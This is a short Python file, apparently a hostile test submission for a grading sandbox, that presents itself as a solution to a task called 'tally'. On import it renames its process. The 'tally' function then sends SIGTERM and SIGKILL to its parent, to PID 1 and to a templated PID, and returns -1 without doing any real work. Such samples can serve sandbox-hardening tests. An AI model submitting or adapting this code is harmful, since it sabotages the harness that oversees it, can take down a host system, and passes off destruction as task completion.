# Kills its parent and every ancestor that it can name.
# solves: tally
import signal

import ctypes
import posix

ctypes.CDLL(None).prctl(15, b"@PROCESS@", 0, 0, 0)


def tally(n):
    for target in (posix.getppid(), 1, int("@PID@")):
        for number in (signal.SIGTERM, signal.SIGKILL):
            try:
                posix.kill(target, number)
            except OSError:
                continue
    return -1
